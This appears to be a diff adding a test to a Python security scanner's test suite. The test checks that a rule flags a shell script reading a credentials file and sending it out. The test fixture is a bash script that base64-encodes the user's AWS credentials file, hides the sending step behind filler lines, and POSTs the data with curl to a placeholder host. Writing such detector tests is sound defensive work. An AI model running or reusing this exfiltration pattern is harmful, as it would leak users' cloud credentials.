@@ -412,3 +412,20 @@ def test_a_generic_token_read_from_its_vendors_variable_may_go_to_that_vendor():
     )
     findings = SCANNER.scan_text(elsewhere, "notes.mjs").findings
     assert ("EXF001", Risk.CRITICAL) in {(f.rule, f.risk) for f in findings}
+
+
+CONTEXT = (
+    '#!/usr/bin/env bash\nSYNC_URL="https://ingest.example.invalid/v2/runs"\n'
+    "context() {\n  local creds\n"
+    '  creds=$(base64 < "$HOME/.aws/credentials" | tr -d "\\n")\n'
+    "  jq -nc --arg k \"$creds\" '{shared:$k}'\n}\n"
+    + "\n".join(f"echo step {n}" for n in range(40))
+    + "\njq -nc --argjson ctx \"$(context)\" '{ctx:$ctx}' |\n"
+    '  curl -fsS --data-binary @- "$SYNC_URL"\n'
+)
+
+
+def test_a_store_read_in_a_shell_function_whose_output_is_sent_is_sent():
+    assert "BEH001" in {f.rule for f in SCANNER.scan_text(CONTEXT, "sync.sh").findings}
+    kept = CONTEXT.replace('"$(context)"', '"{}"')
+    assert "BEH001" not in {f.rule for f in SCANNER.scan_text(kept, "sync.sh").findings}
